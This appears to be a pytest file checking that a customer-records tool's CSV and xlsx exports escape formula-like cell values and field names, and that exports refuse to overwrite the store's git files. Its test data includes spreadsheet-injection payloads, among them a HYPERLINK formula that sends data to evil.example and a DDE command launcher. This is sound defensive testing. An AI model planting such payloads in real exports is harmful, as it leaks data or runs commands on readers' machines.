"""Exports that attack the reader (issue 16, kind 7): field names are data too. A customer file
with extra fields named like formulas exports to CSV and xlsx with every cell, the header row
included, shown as text by a spreadsheet: no cell starts with a formula character unescaped,
and the xlsx holds no formula at all."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest

from kehu_core.ids import shard
from kehu_core.services.exporting import FORMULA_START

from .conftest import kehu

NAMES = ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.fixture
def store(tmp_path: Path) -> Path:
    path = tmp_path / "store"
    assert kehu("init", str(path), "--no-git").code == 0
    cid = kehu("customer", "add", "--name", "=1+1", "--phone", "13800138000", store=path).out.strip()
    record = path / "customers" / shard(cid) / cid / "customer.yaml"
    extra = "".join(f'{json.dumps(n)}: "=2+{i}"\n' for i, n in enumerate(NAMES))  # JSON is YAML
    record.write_text(record.read_text(encoding="utf-8") + extra, encoding="utf-8")
    assert kehu("check", store=path).code == 0
    return path


def _formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


def test_csv_header_and_cells_are_neutralised(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    result = kehu("export", "--format", "csv", str(out), store=store)
    assert result.code == 0, result.err
    with out.open(encoding="utf-8-sig", newline="") as handle:  # keep a CR inside a cell
        rows = list(csv.reader(handle))
    header, row = rows[0], rows[1]
    for name in NAMES:
        assert "'" + name in header, (name, header)
    assert not [c for c in header + row if _formula_like(c)], header + row


def test_xlsx_holds_no_formula_in_any_cell(store: Path, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    result = kehu("export", "--format", "xlsx", str(out), store=store)
    assert result.code == 0, result.err
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(out).active
    header = [c for c in sheet[1]]
    # A CR survives as &#13; when openpyxl writes through lxml and becomes LF without it
    # (XML end-of-line handling): either way the name is there, as text.
    assert {c.value.replace("\r", "\n") for c in header} >= {n.replace("\r", "\n") for n in NAMES}
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_an_export_never_overwrites_gits_files_of_the_store(tmp_path: Path) -> None:
    """``.gitattributes`` and ``.gitignore`` decide how every clone merges and what it shares:
    a CSV written over ``.gitignore`` (exit 0) put ``.kehu/``, the index, into the next sync."""
    path = tmp_path / "store"
    assert kehu("init", str(path)).code == 0
    assert kehu("customer", "add", "--name", "李雷", store=path).code == 0
    names = (".gitattributes", ".gitignore", ".gitmodules")
    before = {n: (path / n).read_bytes() if (path / n).exists() else None for n in names}
    for name in names:
        for args in (("export", "--format", "csv", str(path / name)),
                     ("export", "--format", "xlsx", str(path / name)),
                     ("reminders", "--ics", str(path / name))):
            result = kehu(*args, store=path)
            assert result.code == 1 and "inside the store's records" in result.err, (args, result.err)
    assert {n: (path / n).read_bytes() if (path / n).exists() else None for n in names} == before
    assert kehu("export", "--format", "csv", str(path / "customers.csv"), store=path).code == 0  # beside them
